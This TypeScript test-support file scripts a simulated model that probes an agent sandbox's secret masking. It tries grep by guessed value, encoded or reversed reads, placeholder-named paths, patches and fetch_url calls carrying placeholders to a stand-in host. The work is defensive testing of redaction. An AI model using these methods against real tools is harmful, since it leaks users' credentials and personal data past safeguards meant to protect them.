import type { LanguageModelV4Prompt } from '@ai-sdk/provider';
import { call, noteOf, script } from '../../../support/masked-lab.ts';
import type { Planted } from '../../../support/planted-secrets.ts';
import type { ScriptedCall, Turn, TurnMaker } from '../../../support/scripted-model.ts';

/** A secret as an attacker knows it: its note, its placeholder, and a guess of its value. */
export interface Target {
  readonly kind: string;
  readonly path: string;
  readonly placeholder: string;
  readonly guess: string;
}

/** One way to learn a value: calls that are made in one step, for each kind. */
export interface Way {
  readonly name: string;
  readonly calls?: (target: Target, nth: number) => readonly ScriptedCall[];
  /** The body of a function of a script: one script has those of all kinds. */
  readonly source?: (target: Target, nth: number) => string;
}

const quoted = (text: string) => JSON.stringify(text);
const halves = (text: string): [string, string] => [text.slice(0, text.length / 2), text.slice(text.length / 2)];
const oneLine = (text: string) => text.split('\n')[0] ?? '';
const read = (path: string) => `const { content } = await cloister.read_file({ path: ${quoted(path)} });`;

/** Scripts whose result, output or error has the content in another form. */
const DISGUISES: Readonly<Record<string, string>> = {
  whole: 'return content;',
  reversed: "return [...content].reverse().join('');",
  dashed: "return [...content].join('-');",
  hexadecimal: 'return Array.from(content, (one) => one.charCodeAt(0).toString(16));',
  codes: 'return Array.from(content, (one) => one.charCodeAt(0));',
  'upper case': 'return content.toUpperCase();',
  'as a key': 'return { [content]: 1 };',
  printed: 'console.log(...content); return null;',
  thrown: 'throw new Error([...content].join("."));',
  nested: 'return [[{ a: { b: content.split("") } }]];',
  'length of lines': "return content.split('\\n').map((line) => line.length);",
  'sum of codes': 'return Array.from(content).filter((one) => /\\d/.test(one)).length >= 0;',
};

export const WAYS: readonly Way[] = [
  { name: 'read_file', calls: ({ path }) => [call('read_file', { path })] },
  {
    name: 'read_file by character',
    calls: ({ path }) =>
      [20, 30, 35].map((fromCharacter) => call('read_file', { path, fromLine: 3, fromCharacter, lines: 1 })),
  },
  {
    name: 'repo_open_file',
    calls: ({ path }) => [call('repo_open_file', { path, ranges: [{ fromLine: 3, toLine: 3 }] })],
  },
  { name: 'get_file_metadata', calls: ({ path }) => [call('get_file_metadata', { path })] },
  {
    name: 'grep for the value, its halves and its first digits',
    calls: ({ path, guess }) =>
      [oneLine(guess), ...halves(oneLine(guess)), oneLine(guess).slice(0, 6), oneLine(guess).slice(0, 3)].map((query) =>
        call('grep', { query, path }),
      ),
  },
  { name: 'grep everywhere', calls: ({ guess }) => [call('grep', { query: oneLine(guess).slice(-8), limit: 1 })] },
  {
    name: 'repo_search',
    calls: ({ guess }) => [call('repo_search', { query: oneLine(guess), path: '/', context: 5 })],
  },
  {
    name: 'search_content for the value, a part and a prefix',
    calls: ({ guess }) =>
      [
        quoted(oneLine(guess)),
        oneLine(guess),
        `${oneLine(guess).slice(0, 5)}*`,
        `Lettuce ${oneLine(guess).slice(0, 9)}`,
      ].map((query) => call('search_content', { query, limit: 1 })),
  },
  {
    name: 'glob and list by name',
    calls: ({ guess }) => [
      call('glob', { pattern: `**/${oneLine(guess).replaceAll(/[*?[\]{}\\]/g, '')}*` }),
      call('list_files', { path: '/', recursive: true }),
    ],
  },
  {
    name: 'a path with the value',
    calls: ({ guess }) => {
      const name = oneLine(guess).replaceAll('/', '');
      return [
        call('read_file', { path: `/contacts/${name}.md` }),
        call('get_file_metadata', { path: `/contacts/${name}.md` }),
        call('create_file', { path: `/contacts/${name}.md`, content: '' }),
        call('move_file', { from: '/plain.md', to: `/contacts/${name}.md` }),
      ];
    },
  },
  {
    name: 'edit by the value',
    calls: ({ path, guess }) => [
      call('edit_file', { path, oldText: guess, newText: 'x' }),
      call('edit_file', { path, oldText: oneLine(guess).slice(0, 7), newText: 'x' }),
      call('edit_file', { path, oldText: ` ${oneLine(guess)} `, newText: 'x', replaceAll: true }),
    ],
  },
  {
    name: 'write the value in place of its placeholder',
    calls: ({ path, guess, placeholder }) => [call('edit_file', { path, oldText: placeholder, newText: guess })],
    source: ({ path, guess, placeholder }) =>
      `try { return await cloister.edit_file({ path: ${quoted(path)}, oldText: ${quoted(placeholder)}, newText: ${quoted(guess)} }); } catch (error) { return error.message; }`,
  },
  {
    name: 'the whole text with the value',
    calls: ({ path, guess, kind }) => {
      const line = kind === 'password' ? `password: ${guess}` : `The ${kind} of this sample is ${guess} since May.`;
      return [call('write_file', { path, content: `# ${kind}\n\n${line}\n\nLettuce.\n` })];
    },
  },
  {
    name: 'write the value elsewhere and compare placeholders',
    calls: ({ guess, kind, placeholder }, nth) => [
      script(
        `await cloister.create_file({ path: '/guess-${nth}.md', content: ${quoted(`password: ${guess} or ${kind} ${guess} is the value`)} });
        const { content, hash } = await cloister.read_file({ path: '/guess-${nth}.md' });
        const found = await cloister.grep({ query: ${quoted(placeholder)} });
        return { content, same: content.includes(${quoted(placeholder)}), hash: hash.length, total: found.total };`,
      ),
    ],
  },
  {
    name: 'write the value, move it and read it',
    calls: ({ guess, placeholder }, nth) => [
      script(
        `await cloister.create_file({ path: '/a-${nth}.md', content: ${quoted(`The value ${guess} and [[plain]]`)} });
        await cloister.move_file({ from: '/plain.md', to: '/moved-${nth}.md' });
        await cloister.move_file({ from: '/a-${nth}.md', to: '/b-${nth}.md' });
        const { content } = await cloister.read_file({ path: '/b-${nth}.md' });
        return [content, content.includes(${quoted(placeholder)})];`,
      ),
    ],
  },
  {
    name: 'a patch whose context has the value',
    calls: ({ path, guess, kind }, nth) => {
      const line = kind === 'password' ? `password: ${guess}` : `The ${kind} of this sample is ${guess} since May.`;
      const file = path.slice(1);
      const patch = `--- a/${file}\n+++ b/${file}\n@@ -3,3 +3,3 @@\n ${oneLine(line)}\n \n-Lettuce.\n+Basil.\n`;
      return [call('repo_propose_patch', { name: `p-${nth}`, patch, folder: '/' })];
    },
  },
  {
    name: 'a base hash',
    calls: ({ path }) => [
      call('edit_file', { path, oldText: 'Lettuce', newText: 'Basil', baseHash: '0'.repeat(64) }),
      call('write_file', { path, content: 'x', baseHash: '0'.repeat(64) }),
    ],
  },
  {
    name: 'an address with the placeholder or the value',
    calls: ({ placeholder }) => [
      call('fetch_url', { url: `https://hosts.example/?q=${placeholder}` }),
      call('fetch_url', { url: `https://hosts.example/${encodeURIComponent(placeholder)}` }),
    ],
  },
  {
    name: 'a placeholder as a name',
    calls: ({ placeholder }, nth) => [
      call('create_file', { path: `/out/${placeholder}-${nth}.md`, content: 'x' }),
      call('create_file', { path: `/out/${placeholder}.md`, content: 'x' }),
      call('create_folder', { path: `/out/${placeholder}` }),
      call('move_file', { from: '/code/config.ts', to: `/out/${placeholder}.ts` }),
      call('read_file', { path: `/notes/${placeholder}.md` }),
    ],
  },
  {
    name: 'a placeholder as a property name, a variable and an unknown field',
    calls: ({ placeholder }) => [
      call('update_file_properties', { path: '/properties.md', set: { [placeholder]: 'x' } }),
      call('update_file_properties', { path: '/properties.md', remove: [placeholder] }),
      call('read_file', { path: '/plain.md', [placeholder]: placeholder }),
      call(placeholder, {}),
      call('catalog_describe', { name: placeholder }),
    ],
  },
  {
    name: 'a template with the value',
    source: (
      _target,
      nth,
    ) => `await cloister.create_file({ path: '/letter-${nth}.md', template: '/templates/letter.md' });
        const { content, sizeBytes } = await cloister.read_file({ path: '/letter-${nth}.md' }); return [content, sizeBytes];`,
  },
  {
    name: 'the placeholder without what marks it',
    calls: ({ placeholder }, nth) => [
      script(
        `await cloister.create_file({ path: '/bare-${nth}.md', content: ${quoted(`x${placeholder}y ${placeholder}`)} });
        const { content, sizeBytes } = await cloister.read_file({ path: '/bare-${nth}.md' });
        const { entries } = await cloister.list_files({ path: '/', recursive: true });
        return [content, sizeBytes, entries.map(({ path, sizeBytes }) => [path, sizeBytes])];`,
      ),
    ],
  },
  {
    name: 'a copy in the folder of the run',
    calls: ({ placeholder }, nth) => [
      call('create_file', { path: `/scratch/c-${nth}.md`, content: `${placeholder}` }),
      call('read_file', { path: `/scratch/c-${nth}.md` }),
      call('grep', { query: '-', path: `/scratch/c-${nth}.md` }),
    ],
  },
  {
    name: 'own to-do list',
    calls: ({ placeholder, guess }) => [
      call('write_todos', { todos: [{ text: `${placeholder} ${guess}`, state: 'pending' }] }),
    ],
  },
  ...Object.entries(DISGUISES).map(
    ([name, end]): Way => ({
      name: `a script that returns it: ${name}`,
      source: ({ path }) => `${read(path)} ${end}`,
    }),
  ),
  {
    name: 'a script with the placeholder in its source',
    source: ({ placeholder }) => `return [...${quoted(placeholder)}].map((one) => one.charCodeAt(0));`,
  },
  {
    name: 'a script that counts',
    source: ({ guess }) => `const counts = [];
        for (let length = 1; length < 12; length += 1) counts.push((await cloister.grep({ query: ${quoted(oneLine(guess))}.slice(0, length) })).total);
        return counts;`,
  },
];

/** Ways that need no guess and no kind. */
export const GENERAL: readonly (readonly ScriptedCall[])[] = [
  [call('list_changes', { limit: 50 }), call('agent_list', {}), call('catalog_search', { query: 'file' })],
  [call('read_file', { path: '/people.csv' }), call('read_file', { path: '/properties.md' })],
  [call('repo_open_file', { path: '/code/config.ts' }), call('ui_tabs_list', {})],
  [call('list_files', { path: '/contacts' }), call('glob', { pattern: '**' })],
  [script('return await cloister.list_changes({ limit: 100 });')],
  [script("return (await cloister.glob({ pattern: 'contacts/*' })).paths.map((path) => [...path].join(' '));")],
  [call('delete_file', { path: '/contacts', recursive: false }), call('read_file', { path: '/contacts' })],
];

/** Reads the note of each secret, then tries each way on each of them. */
export function turnsOf(ways: readonly Way[], guesses: readonly Planted[]): (Turn | TurnMaker)[] {
  return [
    { calls: guesses.map((secret) => call('read_file', { path: noteOf(secret) })) },
    ...ways.map(
      (way): TurnMaker =>
        (prompt) => ({ calls: callsOf(way, targetsOf(prompt, guesses)) }),
    ),
    // The model's own words come back with the next request.
    {
      text: guesses.map(({ value, kind }) => `I guess that the ${kind} is ${value}.`).join('\n'),
      calls: [call('list_files', { path: '/' })],
    },
    { text: 'Done.' },
  ];
}

function callsOf({ calls, source }: Way, targets: readonly Target[]): ScriptedCall[] {
  const made = calls === undefined ? [] : targets.flatMap((target, nth) => calls(target, nth));
  if (source === undefined) return made;
  const parts = targets.map(
    (target, nth) =>
      `try { all.push(await (async () => { ${source(target, nth)} })()); } catch (error) { all.push(error.message); }`,
  );
  return [...made, script(`const all = []; ${parts.join('\n')} return all;`)];
}

function targetsOf(prompt: LanguageModelV4Prompt, guesses: readonly Planted[]): Target[] {
  const results = prompt.flatMap(({ role, content }) => (role === 'tool' ? content : []));
  return guesses.map((secret, at) => {
    const text = JSON.stringify(results[at] ?? '');
    const placeholder = /\[(?:SECRET|EMAIL|PHONE|IBAN|ID)-[0-9a-f]+\]/.exec(text)?.[0] ?? '[MISSING-00000000]';
    return { kind: secret.kind, path: noteOf(secret), placeholder, guess: secret.value };
  });
}
